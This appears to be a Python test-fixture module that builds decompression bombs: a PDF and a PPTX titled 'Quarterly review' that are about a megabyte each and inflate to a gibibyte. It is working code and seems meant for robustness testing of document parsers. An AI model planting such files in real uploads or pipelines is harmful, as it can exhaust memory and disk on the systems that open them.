"""Compressed bombs made by code: a one-page PDF whose content stream and a PPTX whose slide
XML inflate to a gibibyte each, yet are written in a second and cost about a megabyte.

Deflate with a full flush after each mebibyte of spaces forgets what came before, so every such
mebibyte compresses to the same bytes: one is compressed and repeated, and only the checksum
walks the whole inflated size.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from adversarial.documents import pdf_of_objects

GIB = 1024**3
_MIB = b" " * (1024 * 1024)


def deflated_spaces(
    prefix: bytes, size: int, checksum: Callable[[bytes, int], int] = zlib.crc32
) -> tuple[bytes, int]:
    """A bare deflate stream of ``prefix`` and ``size`` spaces (whole mebibytes), and the
    ``checksum`` (CRC-32 for a zip, Adler-32 for zlib) of what it inflates to."""
    if size % len(_MIB):
        raise ValueError("size must be whole mebibytes")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(_MIB) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.flush()
    total = checksum(prefix, 0 if checksum is zlib.crc32 else 1)
    for _ in range(size // len(_MIB)):
        total = checksum(_MIB, total)
    return head + block * (size // len(_MIB)) + tail, total


def flate_bomb_pdf(path: Path, size: int = GIB) -> Path:
    """One page whose content stream is a line of text and ``size`` spaces, FlateDecode'd."""
    text = b"BT /F1 24 Tf 72 700 Td (Quarterly review) Tj ET\n"
    raw, adler = deflated_spaces(text, size, zlib.adler32)
    data = b"\x78\xda" + raw + struct.pack(">L", adler)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    path.write_bytes(
        pdf_of_objects(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                page,
                stream + b"\nendstream",
                font,
            ]
        )
    )
    return path


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, deflated data, CRC-32, inflated size) members, written field by field
    so that a member can be deflated here rather than by zipfile."""
    out, directory = bytearray(), bytearray()
    for name, data, crc, size in members:
        encoded = name.encode()
        fields = (8, 0, 0x21, crc, len(data), size, len(encoded))  # deflate, 1980-01-01
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, *fields, 0, 0, 0, 0, 0, 0)
        directory[-4:] = struct.pack("<L", len(out))
        directory += encoded
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, *fields, 0) + encoded + data
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def pptx_bytes(title: str = "Quarterly review") -> bytes:
    """A one-slide deck made by python-pptx."""
    import io

    from pptx import Presentation

    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = title
    buffer = io.BytesIO()
    deck.save(buffer)
    return buffer.getvalue()


def whitespace_bomb_pptx(
    path: Path, size: int = GIB, member: str = "ppt/slides/slide1.xml"
) -> Path:
    """A one-slide deck whose ``member`` is its own XML followed by ``size`` bytes of
    whitespace; the zip's headers state the true sizes."""
    import io

    members = []
    with zipfile.ZipFile(io.BytesIO(pptx_bytes())) as deck:
        for info in deck.infolist():
            content = deck.read(info)
            padding = size if info.filename == member else 0
            data, crc = deflated_spaces(content, padding)
            members.append((info.filename, data, crc, len(content) + padding))
    path.write_bytes(_zip(members))
    return path
